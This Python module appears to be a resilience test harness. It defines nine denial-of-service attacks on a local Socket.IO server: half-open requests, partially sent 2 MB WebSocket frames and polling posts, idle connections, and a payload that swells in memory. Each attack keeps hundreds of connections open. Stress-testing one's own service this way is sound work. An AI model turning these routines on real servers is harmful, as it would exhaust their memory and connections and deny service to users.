"""The nine attacks on a driver: what each sends, over connections that it leaves open."""

import json
import socket
import struct
from collections import deque
from collections.abc import Callable

MOST_OPEN = 500  # connections that an attack holds at a time; the driver allows 512
LARGE_S = 0.1  # pause between large messages: 10 per second, 21 MB/s
POLLING = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
POST = (
    b"POST /socket.io/?EIO=4&transport=polling&sid=%s HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Content-Length: %d\r\n\r\n"
)
WEBSOCKET = (
    b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
)
LARGE = 2 << 20  # bytes; the longest message that the driver reads
BINARY, TEXT = 2, 1  # opcodes


class Attacker:
    """Connections to a driver; beyond `MOST_OPEN` the oldest are closed.

    Args:
        port: port of the driver on this machine.
    """

    def __init__(self, port: int) -> None:
        self.port = port
        self._open: deque[socket.socket] = deque()

    def connect(self, sent: bytes) -> socket.socket:
        """Open a connection, send the beginning of a request, and leave it open."""
        if len(self._open) >= MOST_OPEN:
            self._open.popleft().close()
        connection = socket.create_connection(("127.0.0.1", self.port), 5)
        self._open.append(connection)
        connection.sendall(sent)
        return connection

    def websocket(self) -> socket.socket:
        """Open a WebSocket and leave it open."""
        connection = self.connect(WEBSOCKET)
        answer = b""
        while b"\r\n\r\n" not in answer:
            more = connection.recv(4096)
            if not more:
                raise ConnectionError("the driver closed the connection")
            answer += more
        return connection

    def ask(self, request: bytes) -> bytes:
        """Return the answer to a request."""
        with socket.create_connection(("127.0.0.1", self.port), 5) as connection:
            connection.sendall(request)
            answer = b""
            while more := connection.recv(4096):
                answer += more
            return answer

    def close(self) -> None:
        """Close all connections."""
        for connection in self._open:
            connection.close()


def frame(opcode: int, size: int, sent: bytes) -> bytes:
    """Return the beginning of a WebSocket frame that announces `size` bytes, under a mask of 0."""
    head = struct.pack("!BBQ", 0x80 | opcode, 0xFF, size) if size > 65535 else None
    head = head or struct.pack("!BBH", 0x80 | opcode, 0xFE, size)
    return head + bytes(4) + sent


def handshakes(attacker: Attacker) -> float:
    """Open a polling session and leave it open."""
    attacker.ask(POLLING)
    return 0.0


def half_open(attacker: Attacker) -> float:
    """Send half of a request's head."""
    attacker.connect(b"GET / HT")
    return 0.0


def quiet(attacker: Attacker) -> float:
    """Open a WebSocket and send nothing."""
    attacker.websocket()
    return 0.0


def half_sent(attacker: Attacker) -> float:
    """Send all but the last byte of the longest message."""
    attacker.websocket().sendall(frame(TEXT, LARGE, b"4" * (LARGE - 1)))
    return LARGE_S


def after_telemetry(attacker: Attacker) -> float:
    """Send a telemetry, and all but the last byte of the longest message after it."""
    connection = attacker.websocket()
    connection.sendall(frame(TEXT, 400, b'42["telemetry",{}]'.ljust(400)))
    connection.sendall(frame(TEXT, LARGE, b"4" * (LARGE - 1)))
    return LARGE_S


def whole(attacker: Attacker) -> float:
    """Send the longest message, and nothing more."""
    attacker.websocket().sendall(frame(TEXT, LARGE, b'42["x","' + b"y" * (LARGE - 10) + b'"]'))
    return LARGE_S


def lists(attacker: Attacker) -> float:
    """Send a message that takes 20 times its size in memory when parsed."""
    text = b'42["telemetry"' + b",[]" * (LARGE // 3 - 10) + b"]"
    attacker.websocket().sendall(frame(TEXT, len(text), text))
    return LARGE_S


def attachments(attacker: Attacker) -> float:
    """Send one of two large attachments of a telemetry."""
    connection = attacker.websocket()
    connection.sendall(frame(TEXT, 400, b'452-["telemetry",{}]'.ljust(400)))
    size = LARGE - 1000
    connection.sendall(frame(BINARY, size, bytes(size)))
    return LARGE_S


def half_posts(attacker: Attacker) -> float:
    """Send all but the last byte of the longest polling request."""
    sid = json.loads(attacker.ask(POLLING).partition(b"\r\n\r\n")[2][1:])["sid"]
    attacker.connect(POST % (sid.encode(), LARGE) + b"4" * (LARGE - 1))
    return LARGE_S


# Each makes one request and returns the smallest pause before the next, in seconds.
ATTACKS: dict[str, Callable[[Attacker], float]] = {
    "polling handshakes": handshakes,
    "half-open connections": half_open,
    "half-sent messages": half_sent,
    "half-sent after telemetry": after_telemetry,
    "half-sent polling requests": half_posts,
    "whole large messages": whole,
    "lists of 20 times their size": lists,
    "missing attachments": attachments,
    "quiet WebSockets": quiet,
}
